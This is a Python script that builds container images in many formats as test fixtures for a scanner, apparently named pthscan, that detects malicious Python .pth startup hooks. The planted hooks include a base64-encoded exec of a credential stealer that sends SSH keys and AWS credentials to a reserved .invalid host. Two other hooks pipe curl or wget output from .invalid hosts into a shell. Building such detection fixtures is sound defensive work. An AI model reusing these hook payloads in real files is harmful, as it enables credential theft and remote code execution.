#!/usr/bin/env python3
"""Builds one image in every container format pthscan reads, from a real root filesystem.

    python3 -I tests/images/build.py ROOTFS.tar OUT_DIR

ROOTFS.tar is a Debian root filesystem (`.ci/run` makes it with mmdebstrap). The image has
five history lines and four layers:

    layer 1  ADD rootfs                       the stock system
    (empty)  ENV LANG=C.UTF-8
    layer 2  RUN plant                        litellm_init.pth (dist-packages), gone.pth (local)
    layer 3  RUN rm gone.pth                  a whiteout
    (empty)  LABEL x=y
    layer 4  RUN re-add gone.pth              gone.pth again, with other content

so a reader must apply whiteouts, name the layer that wrote each hook and line the history up
with layers past the empty entries. Written to OUT_DIR (each is what the tool named writes;
the ones marked * are made with skopeo from the OCI layout, the rest here):

    oci/                OCI image layout, gzip layers, two tags on one manifest
    oci.tar             the same, as a tar (`oci-archive:`)
    oci-zstd/           OCI layout, every layer zstd in several frames (pzstd, zstd:chunked)
    docker-classic.tar  `docker save` before Docker 25: <v1 id>/layer.tar, repositories
    docker-classic.tar.gz / .tar.zst   the same compressed whole (zstd: several frames)
    docker25.tar        Docker 25+: an OCI layout and manifest.json in one tar
    podman.tar        * `podman save` / skopeo docker-archive: <hex>.tar layers
    skopeo-dir/       * skopeo's `dir:` layout: manifest.json, blobs named by bare hex
    squashed.tar        one layer: the final tree (`docker export | docker import`)
    stock.tar           layer 1 alone (docker save): what must pass

The hooks are text that is never run: a decoded exec of a credential sweep that posts to a
host of the reserved `.invalid` domain.
"""

import base64
import gzip
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile

DIST = "usr/lib/python3/dist-packages"
LOCAL = "usr/local/lib/python3.11/dist-packages"
STEALER = (
    b"import os, glob, urllib.request\n"
    b"keys = [open(p).read() for p in glob.glob(os.path.expanduser('~/.ssh/id_*'))]\n"
    b"keys.append(open(os.path.expanduser('~/.aws/credentials')).read())\n"
    b"urllib.request.urlopen('https://models.litellm.invalid/', data='\\n'.join(keys).encode())\n"
)
PLANTED = (
    b"import os, base64; exec(base64.b64decode('"
    + base64.b64encode(STEALER)
    + b"'))\n"
)
GONE_FIRST = b"import os; os.system('curl -s https://first.invalid/a | sh')\n"
GONE_AGAIN = b"import os; os.system('wget -qO- https://again.invalid/b | sh')\n"
MTIME = 1767225600  # 2026-01-01

HISTORY = [
    {"created": "2026-01-01T00:00:00Z", "created_by": "/bin/sh -c #(nop) ADD file:rootfs in / "},
    {"created": "2026-01-01T00:00:01Z", "created_by": "/bin/sh -c #(nop)  ENV LANG=C.UTF-8", "empty_layer": True},
    {"created": "2026-01-01T00:00:02Z", "created_by": "RUN pip install litellm==1.82.8 # plant"},
    {"created": "2026-01-01T00:00:03Z", "created_by": "RUN rm " + LOCAL + "/gone.pth"},
    {"created": "2026-01-01T00:00:04Z", "created_by": "/bin/sh -c #(nop)  LABEL x=y", "empty_layer": True},
    {"created": "2026-01-01T00:00:05Z", "created_by": "RUN echo again > " + LOCAL + "/gone.pth"},
]


def sha(data):
    return hashlib.sha256(data).hexdigest()


def tar_of(files):
    """A layer tar of (name, bytes) files, with their parent directories."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        dirs = set()
        for name, data in files:
            parts = name.split("/")[:-1]
            for i in range(1, len(parts) + 1):
                d = "/".join(parts[:i])
                if d not in dirs:
                    dirs.add(d)
                    info = tarfile.TarInfo(d)
                    info.type = tarfile.DIRTYPE
                    info.mode = 0o755
                    info.mtime = MTIME
                    t.addfile(info)
            add_file(t, name, data)
    return buf.getvalue()


def add_file(t, name, data):
    """A regular file of the planted layers: mode 0644, written at MTIME."""
    info = tarfile.TarInfo(name)
    info.size = len(data)
    info.mode = 0o644
    info.mtime = MTIME
    t.addfile(info, io.BytesIO(data))


def gz(data):
    return gzip.compress(data, compresslevel=1, mtime=0)


def zstd_frames(data):
    """zstd in several frames, as pzstd and zstd:chunked write it."""
    out = subprocess.run(
        ["pzstd", "-q", "-c", "-1", "-p", "4"], input=data, stdout=subprocess.PIPE, check=True
    ).stdout
    # pzstd cuts its input into frames, each after a skippable frame giving its size: count them
    frames, at = 0, 0
    while at + 8 <= len(out) and out[at : at + 4] == b"\x50\x2a\x4d\x18":
        skip = int.from_bytes(out[at + 4 : at + 8], "little")
        frame = int.from_bytes(out[at + 8 : at + 8 + skip], "little")
        at += 8 + skip + frame
        frames += 1
    return out, frames


def squash(rootfs):
    """The final tree as one tar: the root filesystem and the hooks as the last layers leave them."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=io.BytesIO(rootfs)) as src, tarfile.open(
        fileobj=buf, mode="w", format=tarfile.PAX_FORMAT
    ) as t:
        for m in src:
            t.addfile(m, src.extractfile(m) if m.isreg() else None)
        for name, data in [(DIST + "/litellm_init.pth", PLANTED), (LOCAL + "/gone.pth", GONE_AGAIN)]:
            add_file(t, name, data)
    return buf.getvalue()


def config_of(diffs, history):
    return json.dumps(
        {
            "architecture": "amd64",
            "os": "linux",
            "created": history[-1]["created"],
            "config": {"Env": ["PATH=/usr/local/bin:/usr/bin:/bin", "LANG=C.UTF-8"]},
            "rootfs": {"type": "layers", "diff_ids": ["sha256:" + sha(d) for d in diffs]},
            "history": history,
        },
        sort_keys=True,
    ).encode()


def write_blob(blobs_dir, data):
    digest = sha(data)
    path = os.path.join(blobs_dir, digest)
    if not os.path.exists(path):
        with open(path, "wb") as f:
            f.write(data)
    return digest


def oci_layout(out, layers, media, config, tags):
    """An OCI layout of already-compressed `layers` (media type `media`), tagged `tags`."""
    blobs = os.path.join(out, "blobs", "sha256")
    os.makedirs(blobs, exist_ok=True)
    cdig = write_blob(blobs, config)
    manifest = json.dumps(
        {
            "schemaVersion": 2,
            "mediaType": "application/vnd.oci.image.manifest.v1+json",
            "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": "sha256:" + cdig, "size": len(config)},
            "layers": [
                {"mediaType": media, "digest": "sha256:" + write_blob(blobs, l), "size": len(l)} for l in layers
            ],
        },
        sort_keys=True,
    ).encode()
    mdig = write_blob(blobs, manifest)
    index = {
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.index.v1+json",
        "manifests": [
            {
                "mediaType": "application/vnd.oci.image.manifest.v1+json",
                "digest": "sha256:" + mdig,
                "size": len(manifest),
                "annotations": {"io.containerd.image.name": "docker.io/library/" + t, "org.opencontainers.image.ref.name": t.split(":")[-1]},
            }
            for t in tags
        ],
    }
    with open(os.path.join(out, "index.json"), "w") as f:
        json.dump(index, f)
    with open(os.path.join(out, "oci-layout"), "w") as f:
        json.dump({"imageLayoutVersion": "1.0.0"}, f)
    return mdig, manifest


def tar_dir(src, dest, extra=()):
    with tarfile.open(dest, "w", format=tarfile.PAX_FORMAT) as t:
        for root, _, files in sorted(os.walk(src)):
            for name in sorted(files):
                path = os.path.join(root, name)
                t.add(path, arcname=os.path.relpath(path, src))
        for name, data in extra:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))


def docker_classic(dest, diffs, config, tags):
    """`docker save` before Docker 25: v1 layer directories holding layer.tar, a config named by
    its hex, manifest.json and repositories."""
    members = []
    names = []
    parent = ""
    for d in diffs:
        v1 = sha((parent + sha(d)).encode())
        names.append(v1 + "/layer.tar")
        members.append((v1 + "/layer.tar", d))
        members.append((v1 + "/VERSION", b"1.0"))
        members.append((v1 + "/json", json.dumps({"id": v1, "parent": parent or None}).encode()))
        parent = v1
    cname = sha(config) + ".json"
    members.append((cname, config))
    members.append(("manifest.json", json.dumps([{"Config": cname, "RepoTags": tags, "Layers": names}]).encode()))
    repos = {}
    for t in tags:
        repo, tag = t.rsplit(":", 1)
        repos.setdefault(repo, {})[tag] = parent
    members.append(("repositories", json.dumps(repos).encode()))
    with tarfile.open(dest, "w") as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))


def main():
    rootfs_path, out = sys.argv[1], sys.argv[2]
    with open(rootfs_path, "rb") as f:
        rootfs = f.read()
    shutil.rmtree(out, ignore_errors=True)
    os.makedirs(out)
    diffs = [
        rootfs,
        tar_of([(DIST + "/litellm_init.pth", PLANTED), (LOCAL + "/gone.pth", GONE_FIRST)]),
        tar_of([(LOCAL + "/.wh.gone.pth", b"")]),
        tar_of([(LOCAL + "/gone.pth", GONE_AGAIN)]),
    ]
    config = config_of(diffs, HISTORY)
    tags = ["app:1.0", "app:latest"]
    gz_layers = [gz(d) for d in diffs]
    gzip_media = "application/vnd.oci.image.layer.v1.tar+gzip"
    oci_layout(os.path.join(out, "oci"), gz_layers, gzip_media, config, tags)
    tar_dir(os.path.join(out, "oci"), os.path.join(out, "oci.tar"))
    zst = [zstd_frames(d) for d in diffs]
    assert zst[0][1] > 1, "pzstd wrote one frame: the multi-frame case is not tested"
    oci_layout(os.path.join(out, "oci-zstd"), [z for z, _ in zst], "application/vnd.oci.image.layer.v1.tar+zstd", config, tags)
    docker_classic(os.path.join(out, "docker-classic.tar"), diffs, config, tags)
    with open(os.path.join(out, "docker-classic.tar"), "rb") as f:
        classic = f.read()
    with open(os.path.join(out, "docker-classic.tar.gz"), "wb") as f:
        f.write(gz(classic))
    with open(os.path.join(out, "docker-classic.tar.zst"), "wb") as f:
        f.write(zstd_frames(classic)[0])
    # Docker 25+: uncompressed layers as OCI blobs, index.json and manifest.json side by side
    d25 = os.path.join(out, "docker25")
    oci_layout(d25, diffs, "application/vnd.oci.image.layer.v1.tar", config, tags)
    cdig = sha(config)
    docker_manifest = [{"Config": "blobs/sha256/" + cdig, "RepoTags": tags, "Layers": ["blobs/sha256/" + sha(d) for d in diffs]}]
    tar_dir(d25, os.path.join(out, "docker25.tar"), [("manifest.json", json.dumps(docker_manifest).encode())])
    shutil.rmtree(d25)
    # skopeo writes podman's docker-archive and its own dir: layout from the OCI layout
    oci_ref = "oci:" + os.path.join(out, "oci") + ":latest"
    skopeo = ["skopeo", "--insecure-policy", "copy", "-q"]
    subprocess.run(skopeo + [oci_ref, "docker-archive:" + os.path.join(out, "podman.tar") + ":localhost/app:latest"], check=True)
    subprocess.run(skopeo + [oci_ref, "dir:" + os.path.join(out, "skopeo-dir")], check=True)
    # squashed: one layer, the final tree
    flat = squash(rootfs)
    flat_config = config_of([flat], [{"created": "2026-01-01T00:00:06Z", "created_by": "docker import"}])
    docker_classic(os.path.join(out, "squashed.tar"), [flat], flat_config, ["app:squashed"])
    stock_config = config_of([rootfs], HISTORY[:1])
    docker_classic(os.path.join(out, "stock.tar"), [rootfs], stock_config, ["debian:stock"])


if __name__ == "__main__":
    main()
